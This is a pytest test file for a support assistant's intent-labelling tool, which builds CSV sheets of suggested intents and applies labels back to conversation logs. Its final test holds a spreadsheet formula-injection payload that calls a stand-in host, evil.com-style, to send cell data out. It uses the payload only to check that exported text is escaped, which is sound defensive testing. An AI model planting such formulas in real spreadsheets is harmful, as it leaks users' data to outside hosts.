"""Labelling a shop's own turns: the sheet spreads over suggested intents and confidence, and applying it
labels exactly the turns it names (never a turn whose text changed)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pytest

from assistant.__main__ import main
from assistant.backends.embedding import HashingEmbedder
from assistant.errors import DataError
from assistant.stages.intent_head import IntentHead, fit_softmax_regression
from assistant.training.labelling import apply_labels, labelling_sheet, write_sheet

EXAMPLES = {
    "order_status": ["where is my order", "track my parcel", "has my package shipped", "order not arrived"],
    "return_request": [
        "i want to return shoes",
        "send back the jacket",
        "return label please",
        "refund my boots",
    ],
    "greeting": ["hello", "hi there", "good morning", "hey"],
}


def head_and_embedder() -> tuple[HashingEmbedder, IntentHead]:
    embedder = HashingEmbedder(128)
    labels = tuple(EXAMPLES)
    x = embedder.embed_queries([t for ts in EXAMPLES.values() for t in ts])
    y = np.array([labels.index(k) for k, ts in EXAMPLES.items() for _ in ts])
    weights, bias = fit_softmax_regression(x, y, len(labels), epochs=300, learning_rate=0.1)
    return embedder, IntentHead(weights, bias, labels)


def write_shop(root: Path, texts: list[str], *, labelled: dict[int, str] | None = None) -> Path:
    conversations = []
    for number, text in enumerate(texts):
        conversations.append({"id": f"c{number}", "language": "en", "source": "test", "turns": [
            {"role": "agent", "text": "Hi! How can I help?", "action": None},
            {"role": "customer", "text": text, "intent": (labelled or {}).get(number), "slots": {}},
            {"role": "agent", "text": "Sure.", "action": None}]})  # fmt: skip
    (root / "logs").mkdir(parents=True)
    (root / "logs" / "conversations.jsonl").write_text("".join(json.dumps(c) + "\n" for c in conversations))
    return root


TEXTS = [f"where is my order number {i}" for i in range(30)] + [f"return the shoes {i}" for i in range(30)] + [
    "hello", "hi", "good morning", "hey there"]  # fmt: skip


def test_the_sheet_spreads_over_suggested_intents_and_their_confidence(tmp_path: Path) -> None:
    embedder, head = head_and_embedder()
    shop = write_shop(tmp_path, TEXTS, labelled={0: "order_status", 1: "order_status"})
    rows = labelling_sheet(shop, embedder, head, per_intent=5)
    suggested = [row["suggested"] for row in rows]
    assert {s: suggested.count(s) for s in set(suggested)} == {
        "order_status": 5,
        "return_request": 5,
        "greeting": 4,
    }
    assert {"c0", "c1"}.isdisjoint(row["conversation_id"] for row in rows)  # labelled turns left out
    assert all(row["turn"] == "1" and row["intent"] == "" for row in rows)
    probabilities = head.probabilities(embedder.embed_queries(TEXTS[2:30])).max(axis=1)
    chosen = [float(r["confidence"]) for r in rows if r["suggested"] == "order_status"]
    assert min(chosen) == pytest.approx(probabilities.min(), abs=1e-3)  # the least sure case is there too
    assert labelling_sheet(shop, embedder, head, per_intent=5) == rows  # seeded
    capped = labelling_sheet(shop, embedder, head, per_intent=5, max_rows=6)
    assert len(capped) == 6 and {r["suggested"] for r in capped} == {
        "order_status",
        "return_request",
        "greeting",
    }
    reviewed = labelling_sheet(shop, embedder, head, per_intent=40, relabel=True)
    assert {r["intent"] for r in reviewed if r["conversation_id"] in ("c0", "c1")} == {"order_status"}


def test_applying_a_sheet_labels_the_turns_it_names_and_rejects_stale_rows(tmp_path: Path) -> None:
    embedder, head = head_and_embedder()
    shop = write_shop(tmp_path, [*TEXTS[:4], "hello"], labelled={4: "greeting"})
    rows = labelling_sheet(shop, embedder, head, per_intent=10, relabel=True)
    by_id = {row["conversation_id"]: row for row in rows}
    by_id["c0"]["intent"] = "order_status"
    by_id["c1"]["intent"] = "wismo"  # the shop's own name: mapped below
    by_id["c2"]["intent"] = "order_status"
    by_id["c2"]["text"] = "an edited text"  # the logs changed since (or the row was edited): never applied
    by_id["c3"]["text"] = by_id["c3"]["text"].replace(" ", "\r\n ", 1)  # a spreadsheet's line ends: fine
    by_id["c3"]["intent"] = "order_status"
    rows.append({**by_id["c0"], "conversation_id": "c99", "intent": "greeting"})
    rows.append({**by_id["c0"], "turn": "0", "intent": "greeting"})  # the agent's turn
    write_sheet(rows, tmp_path / "sheet.csv")
    before = (shop / "logs" / "conversations.jsonl").read_text()
    report = apply_labels(shop, tmp_path / "sheet.csv", label_map={"wismo": "order_status"})
    assert (report.applied, report.unchanged, report.blank) == (3, 1, 0)  # c4 was a greeting already
    assert [reason.split(":")[0] for _, reason in report.rejected] == [
        "the turn's text differs from the sheet's", "no customer turn '1' in conversation 'c99'",
        "no customer turn '0' in conversation 'c0'"]  # fmt: skip
    after = [json.loads(line) for line in (shop / "logs" / "conversations.jsonl").read_text().splitlines()]
    assert [c["turns"][1]["intent"] for c in after] == ["order_status", "order_status", None, "order_status",
                                                         "greeting"]  # fmt: skip
    untouched = [json.loads(line) for line in before.splitlines()]
    for old, new in zip(untouched, after, strict=True):  # nothing else changed
        old["turns"][1].pop("intent"), new["turns"][1].pop("intent")
        assert old == new


@pytest.mark.parametrize(
    ("content", "message"),
    [(None, "does not exist"), (b"conversation_id,text\nc0,hi\n", "lacks columns turn, intent"),
     (b"conversation_id,turn,text,intent\n" + "c0,1,caf\xe9,x\n".encode("latin-1"), "not UTF-8"),
     (b'conversation_id,turn,text,intent\nc0,1,"hi,greeting\nc1,1,hello,greeting\n', "line 2: not valid CSV")],
)  # fmt: skip
def test_a_bad_sheet_says_what_is_wrong_and_changes_nothing(tmp_path: Path, content: bytes | None,
                                                            message: str) -> None:  # fmt: skip
    shop = write_shop(tmp_path / "shop", TEXTS[:3])
    before = (shop / "logs" / "conversations.jsonl").read_bytes()
    sheet = tmp_path / "sheet.csv"
    if content is not None:
        sheet.write_bytes(content)
    with pytest.raises(DataError, match=message):
        apply_labels(shop, sheet)
    assert (shop / "logs" / "conversations.jsonl").read_bytes() == before
    sheet.write_text("conversation_id,turn,text,intent\nc0,1,hi,greeting\n")
    with pytest.raises(DataError, match="import the shop's support logs first"):
        apply_labels(tmp_path / "no-shop", sheet)


def test_the_cli_writes_a_sheet_and_applies_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                              capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    import assistant.factory

    shop = write_shop(tmp_path / "shop", TEXTS)
    monkeypatch.setattr(assistant.factory, "build_intent_model", lambda settings: head_and_embedder())
    common = ["--set", f"paths.data_dir={tmp_path / 'data'}"]
    assert main([*common, "data", "label-sheet", "--out", str(tmp_path / "sheet.csv"), "--per-intent", "3",
                 str(shop)]) == 0  # fmt: skip
    assert "9 turns over 3 suggested intents written to" in capsys.readouterr().out
    with (tmp_path / "sheet.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        row["intent"] = row["suggested"] if row["suggested"] != "greeting" else ""
    write_sheet(rows, tmp_path / "sheet.csv")
    assert main([*common, "data", "apply-labels", str(tmp_path / "sheet.csv"), str(shop)]) == 0
    out = capsys.readouterr().out
    assert "6 turns labelled, 0 already so, 3 rows left blank, 0 rejected" in out and "train intent" in out
    assert (
        main([*common, "data", "label-sheet", "--out", str(tmp_path / "s.csv"), "--max-rows", "0", str(shop)])
        == 2
    )


def test_training_on_unlabelled_logs_says_how_to_label_them(tmp_path: Path) -> None:
    from assistant.data.splits import split_shop_logs
    from assistant.training.intent import train_intent_model

    shop = write_shop(tmp_path / "shop", TEXTS)
    split_shop_logs(shop)
    with pytest.raises(DataError, match="data label-sheet"):
        train_intent_model(shop, HashingEmbedder(64), tmp_path / "artifacts", embedder_reference="hashing-64")


def test_a_formula_in_a_shoppers_text_is_never_run_by_the_spreadsheet(tmp_path: Path) -> None:
    embedder, head = head_and_embedder()
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    shop = write_shop(tmp_path / "shop", [attack, "-1 refund please", "hello"])
    rows = labelling_sheet(shop, embedder, head)
    write_sheet(rows, tmp_path / "sheet.csv")
    with (tmp_path / "sheet.csv").open(encoding="utf-8-sig", newline="") as handle:
        written = {row["conversation_id"]: row for row in csv.DictReader(handle)}
    assert written["c0"]["text"] == "'" + attack and written["c1"]["text"] == "'-1 refund please"
    assert written["c2"]["text"] == "hello"
    for row in written.values():
        row["intent"] = "greeting"
    write_sheet(
        list(written.values()), tmp_path / "filled.csv"
    )  # written back by the same code: no second quote
    report = apply_labels(shop, tmp_path / "filled.csv")
    assert report.applied == 3 and not report.rejected  # the apostrophe is not part of the turn
